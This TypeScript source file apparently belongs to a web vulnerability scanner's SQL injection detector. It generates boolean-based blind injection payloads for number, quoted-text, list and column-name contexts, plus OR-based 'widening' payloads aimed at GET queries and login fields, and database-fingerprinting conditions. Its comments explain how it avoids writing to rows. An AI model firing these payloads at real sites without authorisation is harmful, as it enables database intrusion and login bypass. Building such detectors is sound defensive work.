/**
 * Values that mean something only where they are read as SQL.
 *
 * They must do no harm where the statement writes. Hence:
 * - None comments out the rest of a statement: `UPDATE … SET name = 'x'-- ' WHERE id = 5` would write every row.
 * - None ends a statement, none begins another, none asks for other tables.
 * - What is not true is NULL, never false: NULL stays NULL under NOT, <> and NOT IN, so that a row which the usual value
 *   does not address is not addressed by these either. `AND 1=2` would not do: `DELETE … WHERE NOT (id = 5 AND 1=2)`.
 *   (What changes all rows but one changes that one too for any value but its own; that is no matter of SQL.)
 * - MySQL takes `'x' AND …`, `'x'||…` and `'x'+…` for numbers where a value is meant, and `name IN (0)` is true of most
 *   names. So `+` is never sent; `||` is made NULL where it is no concatenation, and left out where the value itself is
 *   read as a number; AND is not sent to what may write where the text is one of a list, or the last of one
 *   (see `Context.needsComparison`).
 * - Those of `WIDENING` make true what was not, and are for questions only (see `mayWiden`).
 */
import { randomInt } from 'node:crypto';
import { looksStateChanging } from '../../kit/scope.ts';
import type { InsertionPoint } from '../probe.ts';

/** Two conditions, of which databases alone can tell which is true: they are made of the same characters. */
export interface Conditions {
  true: string;
  false: string;
  /** that they are made of */
  numbers: readonly string[];
}

export interface Context {
  name: string;
  /** in which quotes the value stands */
  quote: '' | "'" | '"';
  /** Whether it is a condition, so that it harms where a value is meant. */
  needsComparison?: boolean;
  /** whether it closes a parenthesis: where that can be read, the text is the last of a list, or of a call */
  closes?: boolean;
  /** whether it decides on the order of rows, and not on which there are */
  ordered?: boolean;
  suits(value: string): boolean;
  /** The usual value where the condition is true. */
  payload(value: string, condition: string): string;
}

/**
 * @param round the relation is turned around from one to the next, so that "first number above the second" is no answer
 * @param page where the numbers are not to be
 */
export function conditionsOf(round: number, page: string): Conditions {
  for (let attempts = 0; ; attempts++) {
    const big = randomInt(5000, 10_000);
    const small = randomInt(1000, big - 1000);
    const rest = big - small;
    const numbers = [big, small, rest].map(String);
    const taken = rest === small || numbers.some((number) => page.includes(number));
    if (taken && attempts < 50) continue;
    return round % 2 === 0
      ? { true: `${big}-${small}=${rest}`, false: `${small}-${big}=${rest}`, numbers }
      : { true: `${small}-${big}=-${rest}`, false: `${big}-${small}=-${rest}`, numbers };
  }
}

const NUMBER = /^-?\d{1,18}(?:\.\d{1,9})?$/;
const IDENTIFIER = /^[a-z_]\w{0,62}(?:\.[a-z_]\w{0,62})?$/i;
/** Begins like a number, which is all that MySQL asks. */
const NUMERIC = /^\s*[-+.]{0,2}\d/;
const always = () => true;
const isTrue = (condition: string) => `CASE WHEN ${condition} THEN 1 END=1`;

/** In order of how often they are met. */
export const CONTEXTS: readonly Context[] = [
  {
    name: 'a number',
    quote: '',
    suits: (value) => NUMBER.test(value),
    payload: (value, condition) => `${value}-CASE WHEN ${condition} THEN 0 END`,
  },
  {
    // Wherever a text may stand: beside = and LIKE, in lists, in calls. Not in MySQL and SQL Server, hence the others.
    name: 'a text in single quotes',
    quote: "'",
    suits: (value) => !NUMERIC.test(value),
    payload: (value, condition) => `${value}'||CASE WHEN ${condition} AND 'k'||'q'='kq' THEN '' END||'`,
  },
  ...["'", '"'].flatMap((quote) =>
    [
      { before: '', after: ')', where: 'a text in parentheses' },
      { before: '%', after: ')', where: 'a pattern in parentheses' },
      { before: '', after: '', where: 'a text' },
      { before: '%', after: '', where: 'a pattern' },
    ].map(({ before, after, where }): Context => {
      const open = after && '(';
      return {
        name: `${where} in ${quote === "'" ? 'single' : 'double'} quotes`,
        quote: quote as Context['quote'],
        needsComparison: after === '',
        closes: after !== '',
        suits: always,
        // LIKE, so that a % which follows the value does not matter.
        payload: (value, condition) =>
          `${value}${before}${quote}${after} AND ${isTrue(condition)} AND ${open}${quote}k${quote}${after} LIKE ${open}${quote}k`,
      };
    }),
  ),
  {
    name: 'the name of a column',
    quote: '',
    ordered: true,
    suits: (value) => IDENTIFIER.test(value),
    payload: (value, condition) => `CASE WHEN ${condition} THEN ${value} END`,
  },
];

/** For what holds a value that nothing is found for: the rows of a true condition are to appear. */
export const WIDENING: readonly Context[] = [
  {
    name: 'a text in single quotes',
    quote: "'",
    suits: always,
    payload: (value, condition) => `${value}' OR ${isTrue(condition)} OR 'k' LIKE 'q`,
  },
  {
    name: 'a number',
    quote: '',
    suits: always,
    payload: (value, condition) => `${NUMBER.test(value) ? value : '0'} OR ${isTrue(condition)}`,
  },
  {
    name: 'a text in single quotes and parentheses',
    quote: "'",
    suits: always,
    payload: (value, condition) => `${value}') OR ${isTrue(condition)} OR ('k') LIKE ('q`,
  },
  {
    name: 'a text in double quotes',
    quote: '"',
    suits: always,
    payload: (value, condition) => `${value}" OR ${isTrue(condition)} OR "k" LIKE "q`,
  },
];

/** One text more of a list: what can read it reads a list, or a call. */
export const oneMore = (value: string, quote: string): string => `${value}${quote},${quote}k`;

/** Whether it is asked for to be looked up, as far as can be told from outside. */
export const onlyReads = ({ method, url }: InsertionPoint): boolean =>
  method === 'GET' && !looksStateChanging(url);

const LOGS_IN = /log-?_?in|sign-?_?in|auth|session/i;
const CREATES = /regist|sign-?_?up|reset|forgot|recover|create|update|edit|\bnew\b/i;
/** What else a form by GET may do besides looking something up, as its parameters say. */
const WRITES =
  /(?:^|[^a-z])(?:save|change|add|insert|set|send|subscribe|vote|book|apply|confirm|approve|assign|move|rename|import|upload|publish|enable|activate|grant)(?:[^a-z]|$)/i;
const CREDENTIAL = /user|login|mail|name|pass|pwd/i;

/**
 * Whether a statement that finds more than it should only shows more: what is asked for by GET, and who logs in, is looked
 * up. A site that writes on GET and does not say so in its addresses is beyond what can be told from outside; the names
 * that tell are heeded, as everywhere.
 */
export function mayWiden(point: InsertionPoint, usualStatus: number): boolean {
  const { method, url, name, value, madeUp } = point;
  const { pathname, search } = new URL(url);
  if (looksStateChanging(url) || CREATES.test(pathname)) return false;
  const isForm = madeUp === true;
  if (onlyReads(point)) {
    // What a form asks for is in the names and buttons that it sends along.
    if (isForm && (WRITES.test(pathname + search) || CREATES.test(search))) return false;
    return value === '' || isForm || usualStatus === 404;
  }
  return method === 'POST' && LOGS_IN.test(new URL(url).pathname) && CREDENTIAL.test(name);
}

/** Conditions that one database alone can read, and that are true there. */
export const DIALECTS: readonly { database: string; condition: string }[] = [
  { database: 'SQLite', condition: 'sqlite_version()=sqlite_version()' },
  { database: 'MySQL or MariaDB', condition: 'connection_id()=connection_id()' },
  { database: 'PostgreSQL', condition: 'pg_backend_pid()=pg_backend_pid()' },
  { database: 'Microsoft SQL Server', condition: '@@SPID=@@SPID' },
  { database: 'Oracle', condition: "SYS_CONTEXT('USERENV','LANG') IS NOT NULL" },
];
